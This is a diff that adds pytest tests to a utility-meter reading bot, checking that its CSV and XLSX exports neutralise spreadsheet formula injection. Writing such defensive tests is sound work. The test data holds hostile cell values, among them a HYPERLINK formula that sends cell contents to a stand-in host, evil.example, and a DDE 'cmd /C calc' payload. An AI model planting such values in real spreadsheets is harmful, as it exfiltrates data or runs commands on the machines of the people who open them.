@@ -15,7 +15,7 @@ from sqlalchemy import update
 
 from bot.services import export
 from bot.services import readings as svc
-from storage.models import Meter, Reading
+from storage.models import Account, Meter, Premises, Reading
 from tests.conftest import STAFF_CHAT_ID
 from tests.factories import RSO_OGRN, UK_OGRN, link, world
 
@@ -209,3 +209,65 @@ async def test_previous_value_survives_the_registry_echoing_the_reading(sessions
         ("день", D("1200.000"), D("1300.000"), D("100.000")),
         ("ночь", D("500.000"), D("550.500"), D("50.500")),
     ]
+
+
+# ------------------------------------------------------------------------------------------- formula injection
+
+HOSTILE_SERIAL = '=HYPERLINK("http://evil.example/?"&A1,"Подробнее")'
+
+
+async def hostile_texts(sessions):
+    """Registry text that a spreadsheet would run: a serial «=HYPERLINK(…)», an account «-1234» (a valid
+    account number: letters, digits, dashes), a premises «@SUM(1)» and a tab and a CR at the start."""
+    w = await fill(sessions)
+    async with sessions() as s:
+        await s.execute(update(Meter).where(Meter.id == w.cold.id).values(serial_number=HOSTILE_SERIAL))
+        await s.execute(update(Meter).where(Meter.id == w.power.id).values(serial_number="+\tcmd|' /C calc'!A0"))
+        await s.execute(update(Account).where(Account.id == w.account.id).values(account_number="-1234"))
+        await s.execute(update(Premises).where(Premises.id == w.account.premises_id).values(number="\r@SUM(1)"))
+        await s.commit()
+    return w
+
+
+async def test_formula_like_registry_text_is_text_in_the_csv(sessions):
+    await hostile_texts(sessions)
+    data, n = await export.export_readings(sessions, "2026-11", "csv", TZ)
+    lines = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=";"))
+    cold = next(line for line in lines[1:] if "HYPERLINK" in line[4])
+    assert cold[4] == "'" + HOSTILE_SERIAL  # the apostrophe: a spreadsheet shows the text, runs nothing
+    assert cold[1] == "'-1234"
+    assert cold[3].startswith("'") and "@SUM(1)" in cold[3]
+    assert cold[7:10] == ["100,000", "105,500", "5,500"]  # numbers are numbers, not prefixed
+    power = [line for line in lines[1:] if "calc" in line[4]]
+    assert len(power) == 2 and all(line[4] == "'+\tcmd|' /C calc'!A0" for line in power)
+    # no cell of the file starts with a formula character any more
+    assert not any(export.is_formula_like(cell) for line in lines for cell in line[:7])
+
+
+async def test_formula_like_registry_text_is_a_string_cell_in_the_xlsx(sessions):
+    await hostile_texts(sessions)
+    data, _ = await export.export_readings(sessions, "2026-11", "xlsx", TZ)
+    for data_only in (False, True):  # as written, and as Excel's cached values would be read
+        ws = load_workbook(io.BytesIO(data), data_only=data_only).active
+        cells = {c.value: c for row in ws.iter_rows(min_row=2) for c in row if isinstance(c.value, str)}
+        serial = cells[HOSTILE_SERIAL]
+        assert serial.data_type == "s" and serial.quotePrefix  # a string, not a formula
+        assert cells["-1234"].data_type == "s"
+        assert not any(c.data_type == "f" for row in ws.iter_rows() for c in row)
+    assert b"<f>" not in _sheet_xml(data)
+
+
+def _sheet_xml(data: bytes) -> bytes:
+    import zipfile
+
+    with zipfile.ZipFile(io.BytesIO(data)) as z:
+        return z.read("xl/worksheets/sheet1.xml")
+
+
+@pytest.mark.parametrize(("value", "formula"), [
+    ("=1+1", True), ("+79161234567", True), ("-5", True), ("@SUM(A1)", True), ("\tx", True), ("\rx", True),
+    ("ХВ-001", False), ("a=b", False), ("", False), (" =1", False),
+])
+def test_the_one_rule(value, formula):
+    assert export.is_formula_like(value) is formula
+    assert export.csv_text(value) == ("'" + value if formula else value)
